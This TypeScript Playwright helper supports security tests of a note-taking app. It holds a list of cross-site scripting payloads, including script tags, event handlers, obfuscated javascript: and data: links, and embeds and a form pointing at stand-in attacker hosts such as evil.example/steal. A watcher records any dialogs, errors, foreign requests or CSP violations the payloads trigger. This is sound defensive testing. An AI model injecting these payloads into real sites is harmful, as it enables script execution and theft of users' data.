import type { Page } from '@playwright/test'

/** Script, markup and link payloads from the note-taking apps that became remote code execution. */
export const PAYLOADS = [
  '<script>window.xssRan = 1; alert("script")</script>',
  '<img src=x onerror="alert(\'img\')">',
  '<svg onload="alert(\'svg\')"><circle r="5"/></svg>',
  '<iframe src="javascript:alert(\'iframe\')"></iframe>',
  '<a href="javascript:alert(\'js\')">javascript link</a>',
  '<a href="JaVaScRiPt:alert(\'case\')">mixed-case link</a>',
  '<a href="java\tscript:alert(\'tab\')">tab link</a>',
  '<a href="&#106;avascript:alert(\'entity\')">entity link</a>',
  '<a href="data:text/html,&lt;script&gt;alert(\'data\')&lt;/script&gt;">data link</a>',
  '<p style="width: expression(alert(\'css\'))">css expression</p>',
  '<img src="https://tracker.example/pixel.png" alt="remote image">',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example/steal"><button>Submit</button></form>',
] as const

type Watch = {
  dialogs: string[]
  consoleErrors: string[]
  foreignRequests: string[]
  cspViolations(): Promise<string[]>
}

declare global {
  interface Window {
    cspViolations?: string[]
    xssRan?: number
  }
}

/**
 * Records everything a payload could do that the app never does: a dialog, a console error, a
 * request to another host, a CSP violation. Attach before the app's page loads.
 */
export async function watchForPayloads(page: Page): Promise<Watch> {
  const watch: Watch = {
    dialogs: [],
    consoleErrors: [],
    foreignRequests: [],
    cspViolations: async () => page.evaluate(() => window.cspViolations ?? []),
  }
  page.on('dialog', (dialog) => {
    watch.dialogs.push(`${dialog.type()}: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('console', (message) => {
    if (message.type() === 'error') watch.consoleErrors.push(message.text())
  })
  page.on('pageerror', (error) => watch.consoleErrors.push(`uncaught: ${error.message}`))
  page.on('request', (request) => {
    const url = request.url()
    // Opening the app (again, after a restart) is the test's own navigation to the host it started.
    const isAppNavigation =
      request.isNavigationRequest() && /^http:\/\/127\.0\.0\.1:\d+\/(#token=.*)?$/.test(url)
    const pageOrigin = URL.canParse(page.url()) ? new URL(page.url()).origin : ''
    if (!isAppNavigation && !url.startsWith(`${pageOrigin}/`)) watch.foreignRequests.push(url)
  })
  await page.addInitScript(() => {
    window.cspViolations = []
    document.addEventListener('securitypolicyviolation', (event) => {
      window.cspViolations?.push(`${event.violatedDirective} blocked ${event.blockedURI}`)
    })
  })
  return watch
}
